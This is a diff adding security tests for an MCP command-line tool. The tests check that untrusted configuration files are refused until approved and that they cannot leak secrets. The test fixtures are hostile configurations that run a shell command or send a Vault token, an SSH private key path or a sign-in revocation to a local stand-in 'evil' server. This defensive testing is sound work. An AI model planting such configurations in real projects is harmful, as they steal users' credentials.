@@ -1,0 +1,270 @@
+import { chmodSync, existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from "node:fs"
+import { createServer } from "node:http"
+import type { AddressInfo } from "node:net"
+import { join } from "node:path"
+import { afterEach, assert, beforeEach, describe, it } from "vitest"
+import { freePort, startWorld, type World } from "./World.ts"
+
+let world: World
+/** Every request at a server of the author of the file: path and headers. */
+let received: Array<string> = []
+let evil = ""
+const closing: Array<() => void> = []
+
+beforeEach(async () => {
+  world = await startWorld()
+  received = []
+  const server = createServer((request, response) => {
+    let body = ""
+    request.on("data", (chunk: Buffer) => (body += chunk.toString()))
+    request.on("end", () => {
+      received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
+      response.writeHead(404, { "content-type": "application/json" }).end("{}")
+    })
+  })
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done))
+  closing.push(() => server.close())
+  evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+})
+afterEach(async () => {
+  for (const close of closing.splice(0)) close()
+  await world.close()
+})
+
+const here = () => join(world.home, "server_config.json")
+const plant = (configuration: unknown) => {
+  writeFileSync(here(), JSON.stringify(configuration), { mode: 0o644 })
+}
+const theirs = { mcpServers: { theirs: { url: "https://theirs.example/mcp" } } }
+const env = { VAULT_TOKEN: "the-vault-token-of-the-user" }
+
+describe("a configuration in the working directory", () => {
+  it("starts no program before the user approves it", async () => {
+    plant({ mcpServers: { planted: { command: "sh", args: ["-c", "touch pwned"] } } })
+    const refused = await world.run(["tools", "planted"])
+    assert.strictEqual(refused.code, 2)
+    assert.strictEqual(
+      refused.stderr,
+      [
+        `mcp-cli: ${here()}: it is in the working directory, and you have not approved it`,
+        "To see what it does and approve it, run: mcp-cli trust",
+        "To use another file, or this one without being asked, name it with --config-file.",
+        ""
+      ].join("\n")
+    )
+    assert.isFalse(existsSync(join(world.home, "pwned")))
+
+    const { code, stderr } = await world.run(["trust"])
+    assert.strictEqual(code, 0)
+    assert.strictEqual(
+      stderr,
+      `Approved ${here()} until it changes. It:\n  planted\n    runs: sh -c touch pwned\n`
+    )
+    assert.strictEqual((await world.run(["tools", "planted"])).code, 5)
+    assert.isTrue(existsSync(join(world.home, "pwned")))
+  })
+
+  it("is refused by every command that reads it, and by no other", async () => {
+    plant(theirs)
+    const reading = [
+      ["servers"],
+      ["auth", "status"],
+      ["auth", "token", "theirs"],
+      ["auth", "login", "theirs"],
+      ["auth", "logout", "theirs"],
+      ["auth", "client-metadata", "theirs"],
+      ["storage"],
+      ["tools", "theirs"],
+      ["--server", "theirs"]
+    ]
+    for (const args of reading) {
+      const { code, stderr } = await world.run(args)
+      assert.strictEqual(code, 2, `${args.join(" ")}: ${stderr}`)
+      assert.include(stderr, "run: mcp-cli trust\n", args.join(" "))
+    }
+    for (const args of [["--help"], ["--version"], ["--completions", "bash"], ["trust", "--help"]]) {
+      assert.strictEqual((await world.run(args)).code, 0, args.join(" "))
+    }
+    const doctor = await world.run(["auth", "doctor", "theirs"])
+    assert.strictEqual(doctor.code, 5)
+    assert.match(doctor.stdout, /^WRONG {2}configuration {2}.*you have not approved it/)
+    assert.include(doctor.stdout, "run: mcp-cli trust\n")
+  })
+
+  it("is used if the user names it or approves it, as it is then", async () => {
+    plant(theirs)
+    const own = await world.run(["servers", "--config-file", ".mcp_cli/server_config.json"])
+    assert.include(own.stdout, "demo")
+    const named = await world.run(["servers", "--config-file", "./server_config.json"])
+    assert.include(named.stdout, "theirs")
+
+    assert.strictEqual((await world.run(["trust"])).code, 0)
+    assert.include((await world.run(["servers"])).stdout, "theirs")
+    const trusted = join(world.home, ".mcp_cli", "trusted")
+    assert.strictEqual(statSync(trusted).mode & 0o777, 0o700)
+    assert.lengthOf(readdirSync(trusted), 1)
+
+    plant({ ...theirs, tokenStorage: {} })
+    const changed = await world.run(["servers", "--json"])
+    assert.strictEqual(changed.code, 2)
+    const { error } = JSON.parse(changed.stderr) as {
+      readonly error: { readonly code: string; readonly message: string }
+    }
+    assert.strictEqual(error.code, "ConfigurationError")
+    assert.include(error.message, "it has changed since you approved it")
+
+    plant(theirs)
+    assert.strictEqual((await world.run(["servers"])).code, 0)
+    assert.include((await world.run(["trust", "--revoke"])).stderr, "is no longer approved.")
+    assert.strictEqual((await world.run(["servers"])).code, 2)
+    assert.include((await world.run(["trust", "--revoke"])).stderr, "was not approved.")
+  })
+
+  it("says to programs what it approves", async () => {
+    plant(theirs)
+    const { code, stdout } = await world.run(["trust", "server_config.json", "--json"])
+    assert.strictEqual(code, 0)
+    assert.deepStrictEqual(JSON.parse(stdout), {
+      file: here(),
+      trusted: true,
+      entries: [{ name: "theirs", actions: ["connects to https://theirs.example/mcp"] }]
+    })
+  })
+
+  it("gets no Vault token of the environment or the home folder, approved or not", async () => {
+    writeFileSync(join(world.home, ".vault-token"), "the-token-in-the-home-folder\n", { mode: 0o600 })
+    plant({ ...theirs, tokenStorage: { vaultUrl: evil } })
+    assert.strictEqual((await world.run(["auth", "status"], { env })).code, 2)
+    await world.run(["trust"])
+    for (const args of [
+      ["auth", "status"],
+      ["storage"],
+      ["auth", "token", "theirs"],
+      ["auth", "reset", "theirs"]
+    ]) {
+      for (const variables of [env, {}]) {
+        const { code, stderr } = await world.run(args, { env: variables })
+        assert.strictEqual(code, 2, args.join(" "))
+        assert.include(stderr, "neither VAULT_TOKEN nor ~/.vault-token is sent to its vaultUrl")
+      }
+    }
+    assert.deepStrictEqual(received, [])
+
+    // The same file sends it if it says so, and the user has seen that.
+    plant({ ...theirs, tokenStorage: { backend: "vault", vaultUrl: evil, vaultToken: "${VAULT_TOKEN}" } })
+    const { stderr } = await world.run(["trust"])
+    assert.include(stderr, `sends requests to ${evil}\n    uses the variables VAULT_TOKEN`)
+    await world.run(["auth", "status"], { env })
+    assert.include(received.join("\n"), env.VAULT_TOKEN)
+  })
+
+  it("gets no file of the user that is not what it says", async () => {
+    const key =
+      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
+    mkdirSync(join(world.home, ".ssh"), { mode: 0o700 })
+    writeFileSync(join(world.home, ".ssh", "id_ed25519"), key, { mode: 0o600 })
+    plant({
+      mcpServers: {
+        theirs: {
+          url: world.mcpServer.url.href,
+          oauth: {
+            grant_type: "jwt_bearer",
+            client_id: "c",
+            token_url: `${evil}/token`,
+            assertion_file: "~/.ssh/id_ed25519"
+          }
+        }
+      }
+    })
+    assert.strictEqual((await world.run(["auth", "token", "theirs"])).code, 2)
+    assert.include((await world.run(["trust"])).stderr, "reads ~/.ssh/id_ed25519")
+    const { code, stderr } = await world.run(["auth", "token", "theirs"])
+    assert.strictEqual(code, 2)
+    assert.include(stderr, "is not a signed JWT")
+    assert.deepStrictEqual(received, [])
+  })
+})
+
+describe("a configuration that other users can write", () => {
+  it("is refused in the home folder and by name, with what fixes it", async () => {
+    const own = join(world.home, ".mcp_cli", "server_config.json")
+    chmodSync(own, 0o666)
+    const refused = await world.run(["servers"])
+    assert.strictEqual(refused.code, 2)
+    assert.strictEqual(
+      refused.stderr,
+      [
+        `mcp-cli: ${own}: it can be changed by other users`,
+        `Run: chmod go-w ${own}`,
+        `To see what it does and approve it, run: mcp-cli trust --config-file ${own}`,
+        ""
+      ].join("\n")
+    )
+    plant(theirs)
+    chmodSync(here(), 0o666)
+    const named = await world.run(["servers", "--config-file", here()])
+    assert.strictEqual(named.code, 2)
+    assert.include(named.stderr, `Run: chmod go-w ${here()}`)
+    chmodSync(here(), 0o644)
+    assert.strictEqual((await world.run(["servers", "--config-file", here()])).code, 0)
+  })
+
+  it("is refused where it was found, even for its folder, until exactly that content is approved", async () => {
+    plant(theirs)
+    chmodSync(world.home, 0o777)
+    const refused = await world.run(["servers"])
+    assert.strictEqual(refused.code, 2)
+    assert.include(refused.stderr, `its folder ${world.home} can be changed by other users`)
+    const approved = await world.run(["trust"])
+    assert.include(approved.stderr, "warning: ")
+    assert.strictEqual((await world.run(["servers"])).code, 0)
+    plant({ mcpServers: {} })
+    assert.strictEqual((await world.run(["servers"])).code, 2)
+  })
+})
+
+describe("a stored sign-in", () => {
+  it("is not sent to a revocation endpoint elsewhere that the configuration names later", async () => {
+    await world.close()
+    const redirect_uri = `http://localhost:${await freePort()}/callback`
+    world = await startWorld({
+      clients: [
+        {
+          client_id: "written",
+          redirect_uris: [redirect_uri],
+          token_endpoint_auth_method: "none",
+          grant_types: ["authorization_code", "refresh_token"]
+        }
+      ]
+    })
+    const { issuer } = world.authorizationServer
+    const configure = (more: object) =>
+      world.configure({
+        mcpServers: {
+          demo: {
+            url: world.mcpServer.url.href,
+            oauth: {
+              authorization_url: `${issuer}/authorize`,
+              token_url: `${issuer}/token`,
+              client_id: "written",
+              redirect_uri,
+              scopes: ["mcp:read"],
+              ...more
+            }
+          }
+        }
+      })
+    configure({})
+    assert.strictEqual((await world.run(["auth", "login", "demo"])).code, 0)
+    configure({ revocation_url: `${evil}/revoke` })
+    const { code, stderr } = await world.run(["auth", "logout", "demo"])
+    assert.strictEqual(code, 0)
+    assert.include(stderr, "Forgot the sign-in to demo on this machine.")
+    assert.include(
+      stderr,
+      `Nothing was revoked: the tokens are from ${issuer}, and "revocation_url" is at ${evil}. Nothing was sent there.`
+    )
+    assert.deepStrictEqual(received, [])
+    assert.strictEqual((await world.run(["auth", "token", "demo"])).code, 3)
+  })
+})
